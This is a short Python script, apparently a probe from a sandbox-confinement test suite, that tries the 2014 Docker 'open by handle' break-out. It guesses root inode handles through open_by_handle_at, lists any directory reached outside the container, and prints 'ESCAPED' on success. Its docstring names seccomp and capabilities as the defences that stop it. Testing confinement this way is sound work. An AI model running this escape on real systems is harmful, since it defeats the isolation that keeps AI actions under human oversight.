"""Opens the root of the file system by its handle, as in the Docker break-out of 2014: inode 2 of whatever there is.

Stopped by: seccomp, capabilities
"""

import ctypes
import os
import struct
import sys
import tempfile

libc = ctypes.CDLL(None, use_errno=True)
for place in ("/usr/bin", sys.prefix, "/etc/passwd", tempfile.gettempdir(), "/"):
    try:
        mount_fd = os.open(place, os.O_RDONLY)
    except PermissionError:
        mount_fd = os.open(place, os.O_PATH)
    for inode in (2, 1, 128, 256):
        handle = struct.pack("=IiII", 8, 1, inode, 0)
        fd = libc.open_by_handle_at(mount_fd, handle, os.O_RDONLY)
        if fd >= 0:
            print("ESCAPED: a handle of inode", inode, os.listdir(fd))
    buffer, mount_id = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0), 136), ctypes.c_int()
    if libc.name_to_handle_at(-100, place.encode(), buffer, ctypes.byref(mount_id), 0) == 0:
        print("ESCAPED: learned a handle of", place)
    os.close(mount_fd)
print("tried")
